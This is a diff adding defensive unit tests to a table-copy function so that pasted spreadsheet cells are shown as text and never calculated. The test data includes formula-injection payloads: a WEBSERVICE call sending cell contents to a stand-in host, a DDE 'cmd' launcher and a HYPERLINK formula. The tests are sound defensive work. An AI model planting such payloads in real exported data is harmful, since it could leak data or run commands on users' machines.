@@ -27,4 +27,22 @@ describe("a table", () => {
   test("is copied as lines that a spreadsheet pastes into cells", () => {
     expect(tsvOf(columns, [{ name: "a\tb\nc", due: 1 }])).toBe("番号\t期限\na b c\t1");
   });
+
+  test.each([
+    ['=WEBSERVICE("https://elsewhere.example/?"&A1)', "'=WEBSERVICE"],
+    ["@SUM(A1)", "'@SUM"],
+    ["+cmd|' /C calc'!A0", "'+cmd"],
+    ["-1+HYPERLINK(A1)", "'-1+HYPERLINK"],
+    ["＝１＋１", "'＝"],
+    ["\t =1+1", "'=1"],
+    ["-12", "-12"],
+    ["+1,200.5", "+1,200.5"],
+    ["10 t = 22,000 lb", "10 t ="],
+  ])("copies %j so that a spreadsheet shows it and calculates nothing", (name, copied) => {
+    expect(
+      tsvOf(columns, [{ name, due: 1 }])
+        .split("\n")[1]
+        ?.startsWith(copied),
+    ).toBe(true);
+  });
 });
